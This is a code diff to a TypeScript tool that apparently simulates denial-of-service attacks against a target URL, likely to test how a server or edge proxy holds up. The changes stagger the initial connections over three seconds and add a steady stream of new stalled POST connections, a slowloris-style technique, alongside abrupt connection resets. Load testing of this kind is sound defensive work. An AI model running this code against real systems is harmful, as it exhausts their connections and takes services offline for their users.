@@ -11,6 +11,8 @@ const attack: Attack = JSON.parse(process.argv[2] ?? "");
 const { hostname, port, host } = new URL(attack.url);
 /** Between the end of an attacker's connection and its next one, in milliseconds. */
 const REOPEN_MS = 1_000;
+/** The time over which connections are opened at the start, in milliseconds. */
+const OPEN_MS = 3_000;
 /** How often an attacker of each kind resets its connection, in milliseconds. */
 const RESET_EVERY_MS = 50;
 /** The bursts of rendered pages, as parts of the attack's time. */
@@ -40,12 +42,12 @@ const headers = (line: string, ...fields: string[]) =>
 const stalled = new Set<net.Socket>();
 /** Announces a body, sends the first bytes of it, and no more. */
 function stall(i: number) {
-  const { paths, announced, sent, isReopened } = attack.stalled;
+  const { paths, announced, sent } = attack.stalled;
   const path = paths[i % paths.length] ?? "/";
   const isApi = path.startsWith("/api/");
   const type = isApi ? "application/json" : "multipart/form-data; boundary=edge";
   const begin = isApi ? "{" : '--edge\r\nContent-Disposition: form-data; name="x"\r\n\r\n';
-  const socket = open(stalled, isReopened ? () => stall(i) : undefined);
+  const socket = open(stalled, undefined);
   socket.once("connect", () => report.stalled++);
   socket.write(headers(`POST ${path}`, `Content-Type: ${type}`, `Content-Length: ${announced}`));
   socket.write(begin.padEnd(sent));
@@ -113,9 +115,9 @@ function reset(socket: net.Socket) {
   socket.resetAndDestroy();
 }
 
-/** Calls `start` for each of `count`, spread over the first second. */
+/** Calls `start` for each of `count`, spread over the first seconds. */
 function spread(count: number, start: (i: number) => void) {
-  for (let i = 0; i < count; i++) setTimeout(() => running && start(i), (i * 1_000) / count);
+  for (let i = 0; i < count; i++) setTimeout(() => running && start(i), (i * OPEN_MS) / count);
 }
 
 function end() {
@@ -141,6 +143,8 @@ async function begin() {
       },
       part * attack.seconds * 1000,
     );
+  const { newPerSecond } = attack.stalled;
+  if (newPerSecond > 0) setInterval(() => stall(report.stalled), 1_000 / newPerSecond);
   if (attack.hasResets) setInterval(resetOldest, RESET_EVERY_MS);
 }
 
